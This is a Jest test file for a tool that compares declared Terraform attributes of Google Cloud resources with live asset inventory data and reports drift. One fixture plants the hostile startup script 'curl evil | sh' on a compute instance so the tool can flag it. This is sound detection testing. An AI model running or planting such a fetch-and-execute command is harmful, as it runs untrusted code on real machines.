import { describe, expect, it } from '@jest/globals';
import type { JsonObject } from '../../../core/providers/index.js';
import { compareCloud } from './testing/compare-cloud.js';

const PROJECT = '//compute.googleapis.com/projects/shop';

function google(
  type: string,
  attributes: JsonObject,
  asset: { readonly type: string; readonly id: string; readonly properties: JsonObject },
  format = 'terraform-state-attributes',
) {
  return compareCloud({
    declared: { format, type, attributes },
    actual: { format: 'gcp-cai', ...asset },
  });
}

function paths({ findings }: ReturnType<typeof google>) {
  return findings.map(({ path, verdict }) => `${verdict} ${path}`);
}

describe('google through the published schemas', () => {
  const cluster = {
    name: 'main',
    location: 'europe-west1',
    enable_legacy_abac: false,
    datapath_provider: 'ADVANCED_DATAPATH',
    maintenance_policy: [{ daily_maintenance_window: [{ start_time: '03:00' }] }],
    master_authorized_networks_config: [
      { cidr_blocks: [{ cidr_block: '10.0.0.0/8' }, { cidr_block: '172.16.0.0/12' }] },
    ],
  };
  const liveCluster = (below: JsonObject) => ({
    type: 'container.googleapis.com/Cluster',
    id: '//container.googleapis.com/projects/shop/locations/europe-west1/clusters/main',
    properties: {
      name: 'main',
      location: 'europe-west1',
      networkConfig: { datapathProvider: 'ADVANCED_DATAPATH' },
      maintenancePolicy: { window: { dailyMaintenanceWindow: { startTime: '03:00' } } },
      masterAuthorizedNetworksConfig: {
        enabled: true,
        cidrBlocks: [{ cidrBlock: '172.16.0.0/12' }, { cidrBlock: '10.0.0.0/8' }],
      },
      ...below,
    },
  });

  it('finds fields the API keeps deeper or elsewhere, and sets in any order', () => {
    expect(paths(google('google_container_cluster', cluster, liveCluster({})))).toEqual([]);
  });

  it('speaks about each of them', () => {
    const drifted = liveCluster({
      legacyAbac: { enabled: true },
      maintenancePolicy: { window: { dailyMaintenanceWindow: { startTime: '04:00' } } },
      masterAuthorizedNetworksConfig: { cidrBlocks: [{ cidrBlock: '0.0.0.0/0' }] },
    });
    expect(paths(google('google_container_cluster', cluster, drifted))).toEqual([
      'confirmed enable_legacy_abac',
      'confirmed maintenance_policy[0].daily_maintenance_window[0].start_time',
      'confirmed master_authorized_networks_config[0].cidr_blocks[0].cidr_block',
      'confirmed master_authorized_networks_config[0].cidr_blocks[1]',
    ]);
  });

  const cloud = {
    name: 'pc',
    location: 'us-central1-a',
    management_cluster: [
      { cluster_id: 'c', node_type_configs: [{ node_type_id: 'standard-72', node_count: 3 }] },
    ],
  };
  const liveCloud = (configs: JsonObject) => ({
    type: 'vmwareengine.googleapis.com/PrivateCloud',
    id: '//vmwareengine.googleapis.com/projects/shop/locations/us-central1-a/privateClouds/pc',
    properties: { managementCluster: { clusterId: 'c', nodeTypeConfigs: configs } },
  });

  it('reads blocks as the entries of a map', () => {
    const type = 'google_vmwareengine_private_cloud';
    const same = google(type, cloud, liveCloud({ 'standard-72': { nodeCount: 3 } }));
    expect(paths(same)).toEqual([]);
    const other = google(
      type,
      cloud,
      liveCloud({ 'standard-72': { nodeCount: 4 }, 'standard-128': { nodeCount: 1 } }),
    );
    expect(paths(other)).toEqual([
      'confirmed management_cluster[0].node_type_configs[0].node_count',
      'confirmed management_cluster[0].node_type_configs.standard-128',
    ]);
  });

  const instance = (metadata: JsonObject) => ({
    type: 'compute.googleapis.com/Instance',
    id: `${PROJECT}/zones/europe-west1-b/instances/web`,
    properties: {
      name: 'web',
      machineType: `${PROJECT}/zones/europe-west1-b/machineTypes/e2-small`,
      tags: { items: ['http', 'ssh'], fingerprint: 'abc=' },
      metadata: { items: Object.entries(metadata).map(([key, value]) => ({ key, value })) },
    },
  });
  const web = {
    name: 'web',
    zone: 'europe-west1-b',
    machine_type: 'e2-small',
    tags: ['ssh', 'http'],
    metadata_startup_script: 'echo hi',
    metadata: null,
  };

  it('knows the startup script among the metadata, and tags as a set', () => {
    const type = 'google_compute_instance';
    expect(paths(google(type, web, instance({ 'startup-script': 'echo hi' })))).toEqual([]);
    expect(
      paths(google(type, web, instance({ 'startup-script': 'curl evil | sh', key: 'x' }))),
    ).toEqual(['confirmed metadata_startup_script', 'confirmed metadata']);
  });

  it('matches a project by number and says what it cannot know of code alone', () => {
    const project = { name: 'Shop', project_id: 'shop', org_id: '12345', folder_id: '' };
    const live = {
      type: 'cloudresourcemanager.googleapis.com/Project',
      id: '//cloudresourcemanager.googleapis.com/projects/1234567890',
      properties: {
        name: 'Shop',
        projectId: 'shop',
        parent: { type: 'organization', id: '12345' },
      },
    };
    expect(google('google_project', project, live)).toMatchObject({ findings: [], missing: [] });
    const topic = { name: 'orders', message_retention_duration: '600s' };
    const asset = {
      type: 'pubsub.googleapis.com/Topic',
      id: '//pubsub.googleapis.com/projects/shop/topics/orders',
      properties: { name: 'projects/shop/topics/orders' },
    };
    // The definitions name it and nothing fills it in: the answer would show it.
    expect(paths(google('google_pubsub_topic', topic, asset, 'terraform-hcl-json'))).toEqual([
      'confirmed message_retention_duration',
    ]);
    const bucket = { name: 'b', location: 'EU', retention_policy: [{ retention_period: 60 }] };
    const stored = {
      type: 'storage.googleapis.com/Bucket',
      id: '//storage.googleapis.com/b',
      properties: { name: 'b', location: 'EU' },
    };
    expect(paths(google('google_storage_bucket', bucket, stored, 'terraform-hcl-json'))).toEqual([
      'potential retention_policy',
    ]);
    expect(paths(google('google_pubsub_topic', { ...topic, id: 'x' }, asset))).toEqual([
      'confirmed message_retention_duration',
    ]);
  });
});

describe('what google code leaves out', () => {
  const bucket = { name: 'archive', location: 'EU' };
  const live = (below: JsonObject) => ({
    type: 'storage.googleapis.com/Bucket',
    id: '//storage.googleapis.com/archive',
    properties: { name: 'archive', location: 'EU', storageClass: 'STANDARD', ...below },
  });
  const found = (below: JsonObject) =>
    paths(google('google_storage_bucket', bucket, live(below), 'terraform-hcl-json'));

  it('is silent about what the API fills in, and about defaults', () => {
    expect(
      found({ rpo: 'DEFAULT', softDeletePolicy: { retentionDurationSeconds: '604800' } }),
    ).toEqual([]);
  });

  it('speaks about switches and blocks nobody fills in', () => {
    expect(found({ billing: { requesterPays: true }, logging: { logBucket: 'logs' } })).toEqual([
      'confirmed requester_pays',
      'confirmed logging',
    ]);
    expect(found({ billing: { requesterPays: false }, logging: {} })).toEqual([]);
  });

  it('takes an empty argument that the API fills in for none', () => {
    const attributes = { dataset_id: 'sales', default_collation: '', location: 'EU' };
    const dataset = {
      type: 'bigquery.googleapis.com/Dataset',
      id: '//bigquery.googleapis.com/projects/shop/datasets/sales',
      properties: {
        datasetReference: { datasetId: 'sales', projectId: 'shop' },
        defaultCollation: 'und:ci',
        location: 'EU',
      },
    };
    const compare = (code: JsonObject) =>
      paths(google('google_bigquery_dataset', code, dataset, 'terraform-hcl-json'));
    expect(compare(attributes)).toEqual([]);
    expect(compare({ ...attributes, default_collation: 'und' })).toEqual([
      'confirmed default_collation',
    ]);
  });

  it('keeps one of several windows the API can hold only one of', () => {
    const cluster = {
      name: 'main',
      location: 'europe-west1',
      maintenance_policy: [
        {
          daily_maintenance_window: [{ start_time: '03:00' }],
          recurring_window: [
            { start_time: '2026-01-01T00:00:00Z', end_time: '2026-01-02T00:00:00Z' },
          ],
        },
      ],
    };
    const asset = (window: JsonObject) => ({
      type: 'container.googleapis.com/Cluster',
      id: '//container.googleapis.com/projects/shop/locations/europe-west1/clusters/main',
      properties: { name: 'main', location: 'europe-west1', maintenancePolicy: { window } },
    });
    const of = (window: JsonObject) =>
      paths(google('google_container_cluster', cluster, asset(window)));
    expect(of({ dailyMaintenanceWindow: { startTime: '03:00' } })).toEqual([
      'unverifiable maintenance_policy[0].recurring_window',
    ]);
    expect(of({})).toContain('confirmed maintenance_policy[0].daily_maintenance_window');
  });
});
